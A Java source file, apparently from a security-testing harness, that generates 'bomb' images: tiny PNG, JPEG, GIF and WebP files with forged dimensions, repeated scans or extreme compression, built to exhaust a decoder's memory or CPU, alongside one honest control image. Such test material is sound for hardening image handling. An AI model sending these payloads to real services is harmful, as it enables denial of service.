package io.parley.attacks.attack;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import javax.imageio.IIOImage;
import javax.imageio.ImageIO;
import javax.imageio.ImageWriteParam;
import javax.imageio.ImageWriter;
import javax.imageio.stream.ImageOutputStream;

/// Pictures, and small files that are meant to take their reader's memory or time.
final class Bombs {
  private Bombs() {}

  /// Nothing but a picture.
  static byte[] honest() throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    BufferedImage image = new BufferedImage(640, 480, BufferedImage.TYPE_INT_RGB);
    if (!ImageIO.write(image, "jpeg", out)) {
      throw new IOException("every JDK writes JPEG");
    }
    return out.toByteArray();
  }

  /// 69 bytes: one row of 268 MB.
  static byte[] rowPng() {
    return png(33_554_000, 1, 16, new byte[12]);
  }

  /// All pixels are there, each row to be added up from the one before (Paeth).
  static byte[] pixelsPng(int width, int height) throws IOException {
    byte[] row = new byte[1 + width * 4];
    row[0] = 4;
    ByteArrayOutputStream rows = new ByteArrayOutputStream();
    try (DeflaterOutputStream deflater =
        new DeflaterOutputStream(rows, new Deflater(Deflater.BEST_SPEED), 64 * 1024)) {
      for (int i = 0; i < height; i++) {
        deflater.write(row);
      }
    }
    return png(width, height, 8, rows.toByteArray());
  }

  /// Progressive, with its last scan so many times.
  static byte[] scansJpeg(int width, int height, int scans) throws IOException {
    byte[] picture = progressive(width, height);
    int scan = lastIndexOf(picture, 0xda);
    int end = picture.length - 2;
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write(picture, 0, end);
    for (int i = 0; i < scans; i++) {
      out.write(picture, scan, end - scan);
    }
    out.write(picture, end, 2);
    return out.toByteArray();
  }

  /// A progressive one of some hundred bytes that says to have so many pixels, and whose decoder
  /// keeps 6 bytes for each.
  static byte[] coefficientsJpeg(int width, int height) throws IOException {
    byte[] picture = progressive(64, 64);
    int frame = lastIndexOf(picture, 0xc2);
    ByteBuffer fields = ByteBuffer.wrap(picture);
    fields.putShort(frame + 5, (short) height).putShort(frame + 7, (short) width);
    for (int i = 0; i < 3; i++) {
      picture[frame + 11 + 3 * i] = 0x11;
    }
    return picture;
  }

  /// A GIF whose canvas and frame have this size, and that ends before its first pixel.
  static byte[] canvasGif(int width, int height) {
    ByteBuffer out = ByteBuffer.allocate(64).order(ByteOrder.LITTLE_ENDIAN);
    out.put(ascii("GIF89a")).putShort((short) width).putShort((short) height).put((byte) 0x80);
    out.put(new byte[2 + 6]);
    out.put((byte) 0x2c).putInt(0).putShort((short) width).putShort((short) height).put((byte) 0);
    out.put((byte) 2).put((byte) 2).put(new byte[] {0x4c, 0x01}).put((byte) 0).put((byte) 0x3b);
    return Arrays.copyOf(out.array(), out.position());
  }

  /// A WebP's canvas, of up to 2^24 pixels a side.
  static byte[] canvasWebp(int width, int height) {
    ByteBuffer out = ByteBuffer.allocate(30).order(ByteOrder.LITTLE_ENDIAN);
    out.put(ascii("RIFF")).putInt(22).put(ascii("WEBPVP8X")).putInt(10).putInt(0);
    for (int side : new int[] {width - 1, height - 1}) {
      out.put((byte) side).put((byte) (side >> 8)).put((byte) (side >> 16));
    }
    return out.array();
  }

  private static byte[] progressive(int width, int height) throws IOException {
    ImageWriter writer = ImageIO.getImageWritersByFormatName("jpeg").next();
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ImageOutputStream stream = ImageIO.createImageOutputStream(out)) {
      ImageWriteParam param = writer.getDefaultWriteParam();
      param.setProgressiveMode(ImageWriteParam.MODE_DEFAULT);
      writer.setOutput(stream);
      BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
      writer.write(null, new IIOImage(image, null, null), param);
    } finally {
      writer.dispose();
    }
    return out.toByteArray();
  }

  private static int lastIndexOf(byte[] jpeg, int marker) {
    for (int i = jpeg.length - 2; i > 0; i--) {
      if ((jpeg[i] & 0xff) == 0xff && (jpeg[i + 1] & 0xff) == marker) {
        return i;
      }
    }
    throw new IllegalArgumentException("no such marker");
  }

  private static byte[] png(int width, int height, int depth, byte[] pixels) {
    ByteBuffer header = ByteBuffer.allocate(13).putInt(width).putInt(height);
    header.put((byte) depth).put((byte) 6);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
    out.writeBytes(chunk("IHDR", header.array()));
    out.writeBytes(chunk("IDAT", pixels));
    out.writeBytes(chunk("IEND", new byte[0]));
    return out.toByteArray();
  }

  private static byte[] chunk(String type, byte[] content) {
    CRC32 checksum = new CRC32();
    checksum.update(ascii(type));
    checksum.update(content);
    ByteBuffer chunk = ByteBuffer.allocate(12 + content.length);
    chunk.putInt(content.length).put(ascii(type)).put(content).putInt((int) checksum.getValue());
    return chunk.array();
  }

  private static byte[] ascii(String text) {
    return text.getBytes(StandardCharsets.US_ASCII);
  }
}
